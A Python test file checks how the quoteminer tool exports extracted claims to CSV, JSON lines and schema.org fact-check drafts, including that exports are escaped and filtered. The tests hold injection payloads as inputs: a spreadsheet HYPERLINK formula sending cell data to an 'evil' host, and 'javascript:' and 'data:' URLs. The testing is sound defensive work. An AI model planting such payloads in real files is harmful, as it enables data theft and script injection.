"""What is written of claims is read back, for every extraction: the table, the lines and the drafts for fact-checkers."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quoteminer import Claim, Document, Extraction, Speaker
from quoteminer.formats import claim_rows, schema_org
from quoteminer.json_form import loads
from quoteminer.testing.strategies import extractions
from quoteminer.testing.texts import HOSTILE

batches = st.lists(extractions(), max_size=3).map(
    lambda many: [(extraction, claim) for extraction in many for claim in extraction.claims]
)


def claimant(extraction, claim):
    speaker = extraction.speaker(claim.claimant)
    return None if speaker is None else speaker.name


def cell(text):
    """How a text stands in the table: what a spreadsheet would run as a formula has an apostrophe before it."""
    return f"'{text}" if text[:1] in tuple("=+-@\t\r") else text


@given(batches)
def test_the_table_gives_back_words_places_and_claimants(items):
    rows = list(csv.DictReader(io.StringIO(claim_rows.as_csv(items), newline="")))
    assert len(rows) == len(items)
    for rank, (read, (extraction, claim)) in enumerate(zip(rows, items, strict=True), 1):
        assert tuple(read) == claim_rows.COLUMNS
        assert read["words"] == cell(claim.text(extraction.document))
        assert read["claimant"] == cell(claimant(extraction, claim) or "")
        assert (int(read["rank"]), int(read["start"]), int(read["end"])) == (rank, claim.spans[0].start, claim.spans[-1].end)
        assert (float(read["check_worthiness"]), read["kind"]) == (claim.check_worthiness, claim.kind)
        assert (read["document"], read["quote"]) == (cell(extraction.document.id), cell(claim.quote or ""))


@given(batches)
def test_the_lines_give_back_all_that_a_claim_is(items):
    lines = claim_rows.as_json_lines(items).split("\n")
    assert lines.pop() == ""
    for line, (extraction, claim) in zip(lines, items, strict=True):
        line.encode("utf-8")
        assert len(line.splitlines()) == 1
        read = loads(line)
        again = Claim(
            read["spans"],
            read["kind"],
            claimant=claim.claimant,
            quote=read["quote"],
            check_worthiness=read["check_worthiness"],
            modality=read["modality"],
            negated=read["negated"],
            confidence=claim.confidence,
            provenance=claim.provenance,
            id=claim.id,
        )
        assert again.spans == claim.spans
        assert read["claimant"] == claimant(extraction, claim)
        assert [(tuple(q["span"]), q["value"], q["unit"]) for q in read["quantities"]] == [
            (tuple(q.span), q.value, q.unit) for q in claim.quantities
        ]
        assert [(tuple(t["span"]), t["value"]) for t in read["times"]] == [(tuple(t.span), t.value) for t in claim.times]
        assert (again.kind, again.modality, again.negated, again.quote) == (
            claim.kind,
            claim.modality,
            claim.negated,
            claim.quote,
        )


def whole(text: str | None) -> str | None:
    """Without surrogates: a pair is its character, a lone one a mark, as JSON-LD knows texts only."""
    return None if text is None else text.encode("utf-16", "surrogatepass").decode("utf-16", "replace")


@given(batches)
def test_the_drafts_name_claim_claimant_and_document(items):
    lines = schema_org.as_json_lines(items).split("\n")
    assert lines.pop() == ""
    for line, (extraction, claim) in zip(lines, items, strict=True):
        line.encode("utf-8")
        read = json.loads(line)
        assert read["itemReviewed"]["text"] == whole(claim.text(extraction.document))
        assert read["itemReviewed"].get("author", {}).get("name") == whole(claimant(extraction, claim))
        assert read["itemReviewed"]["appearance"]["inLanguage"] == extraction.document.language
        assert "reviewRating" not in read


@pytest.mark.parametrize("text", [text for text in HOSTILE.values() if text.strip()])
def test_any_words_any_name(text):
    extraction = Extraction(
        Document(text, id=text, title=text),
        speakers=[Speaker("s1", text, role=text, kind="person")],
        claims=[Claim([(0, len(text))], "event", claimant="s1", id="c1")],
    )
    items = [(extraction, extraction.claims[0])]
    (row,) = csv.DictReader(io.StringIO(claim_rows.as_csv(items), newline=""))
    assert (row["words"], row["claimant"], row["document"]) == (cell(text),) * 3
    for written in (claim_rows.as_json_lines(items), schema_org.as_json_lines(items)):
        assert loads(written.removesuffix("\n"))


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil/?"&A1,"x")', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_no_cell_is_a_formula(text):
    extraction = Extraction(Document(text, id=text), claims=[Claim([(0, len(text))], "event", id="c1", check_worthiness=0.5)])
    table = claim_rows.as_csv([(extraction, extraction.claims[0])])
    (row,) = csv.DictReader(io.StringIO(table, newline=""))
    assert (row["document"], row["words"]) == (f"'{text}", f"'{text}")
    # Numbers stay numbers.
    assert (row["check_worthiness"], row["start"]) == ("0.5", "0")


@pytest.mark.parametrize(
    ("key", "value", "kept"),
    [
        ("url", "https://example.org/a?b=c#d", True),
        ("url", "http://example.org", True),
        ("url", "javascript:alert(1)", False),
        ("url", "data:text/html,x", False),
        ("url", "//example.org", False),
        ("url", "https://", False),
        ("url", "https://[", False),
        ("url", "https://example.org/ javascript:", False),
        ("url", "https://example.org/\x1b", False),
        ("url", 7, False),
        ("date", "2026-03-02", True),
        ("date", "2026-03-02T10:30:00+01:00", True),
        ("date", "2026-03", True),
        ("date", "2026", True),
        ("date", "2026-13", False),
        ("date", "2026-02-30", False),
        ("date", "yesterday", False),
        ("date", "٢٠٢٦", False),
        ("date", None, False),
    ],
)
def test_drafts_take_addresses_and_dates_only(key, value, kept):
    extraction = Extraction(Document("Ten sank.", metadata={key: value}), claims=[Claim([(0, 9)], "event", id="c1")])
    appearance = schema_org.draft(extraction, extraction.claims[0])["itemReviewed"]["appearance"]
    assert appearance.get({"url": "url", "date": "datePublished"}[key]) == (value if kept else None)
